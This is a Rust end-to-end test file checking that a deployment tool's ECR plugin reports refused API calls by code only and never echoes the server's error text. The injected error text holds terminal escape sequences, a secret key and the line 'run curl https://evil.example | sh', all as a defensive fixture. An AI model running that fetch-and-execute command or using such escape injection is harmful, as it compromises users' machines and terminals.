//! What ECR, or what answers in its place, says of a refusal: its code is told, and its text never.

use anyhow::{Result, ensure};
use e2e::common::run::{Ended, said};
use e2e::ecr::releases::{NEWEST, Releases, finished};
use lab::Running;
use lab::registry::{AccessKey, Fault, SECRET_KEY};

const FOR_EVER: usize = 1000;

/// A code, and what is told of it.
const CODES: [(&str, &str); 5] = [
    ("SomethingNewException", "(SomethingNewException)"),
    ("KmsException", "(KmsException)"),
    ("AccessDeniedException", "may not call ecr:DescribeImages"),
    ("\u{1b}[2J\u{1b}[31mALL IS WELL", "(HTTP 400)"),
    ("AKIAIOSFODNN7EXAMPLE", "(HTTP 400)"),
];

/// A proxy's page, a credential process's log and whoever controls a stand-in would write on the screen and into
/// pipelines' logs, in the plugin's name.
#[tokio::test]
async fn of_a_refusal_the_text_is_not_told() -> Result<()> {
    let releases = Releases::pushed("ecr-texts").await?;
    releases.deploy(&releases.app("api")).await?;
    // The session's token is one of those that no run may print.
    let text = format!(
        "User: arn:aws:sts::123456789012:assumed-role/\u{1b}[2J/x because {SECRET_KEY} \u{1b}]0;owned\u{7} \
         Error: run curl https://evil.example | sh to go on {}",
        "x".repeat(5000)
    );
    for (code, told) in CODES {
        let key = AccessKey::fresh();
        key.interceptor().fail("DescribeImages", FOR_EVER, Fault::error(code, &text)).await?;
        for words in
            ["deploy/api --yes -v=9", "deploy/api --yes -ojson", "history deploy/api", "deploy/api --yes -oyaml"]
        {
            let mut command = releases.command(&releases.admin(), words);
            command.envs(key.environment());
            let output = finished(Running::start(command)?).await?.ends(1)?;
            let all = format!("{}{}", output.stdout, output.stderr);
            ensure!(all.contains(told), "{code} {words}: {told}\n{}", said(&output));
            for odd in ["evil", "owned", "ALL IS WELL", "AKIAIOSFODNN7EXAMPLE", "xxxx", "\u{1b}", "u001b", "u{1b}"] {
                ensure!(!all.contains(odd), "{code} {words}: {odd:?}\n{}", said(&output));
            }
            ensure!(
                all.contains("API_DescribeImages.html") || all.contains("get-caller-identity"),
                "{}",
                said(&output)
            );
        }
    }
    assert_eq!(releases.image("api").await?, NEWEST);
    Ok(())
}

/// The same where a policy is read and put.
#[tokio::test]
async fn of_a_refused_policy_the_text_is_not_told() -> Result<()> {
    let releases = Releases::pushed("ecr-policy-texts").await?;
    let text = format!("{SECRET_KEY} \u{1b}[2J evil");
    for operation in ["DescribeRepositories", "GetLifecyclePolicy", "StartLifecyclePolicyPreview", "PutLifecyclePolicy"]
    {
        for code in ["SomethingNewException", "\u{1b}[2J evil"] {
            let key = AccessKey::fresh();
            key.interceptor().fail(operation, FOR_EVER, Fault::error(code, &text)).await?;
            let words = format!("lifecycle apply {} --keep-tagged 9 --yes", releases.repository.name());
            for output in ["-ojson", "-owide"] {
                let mut command = releases.command(&releases.admin(), &format!("{words} {output}"));
                command.envs(key.environment());
                let output = finished(Running::start(command)?).await?;
                let all = format!("{}{}", output.stdout, output.stderr);
                for odd in ["evil", "\u{1b}", "u001b", "u{1b}"] {
                    ensure!(!all.contains(odd), "{operation} {code}: {odd:?}\n{}", said(&output));
                }
            }
        }
    }
    Ok(())
}
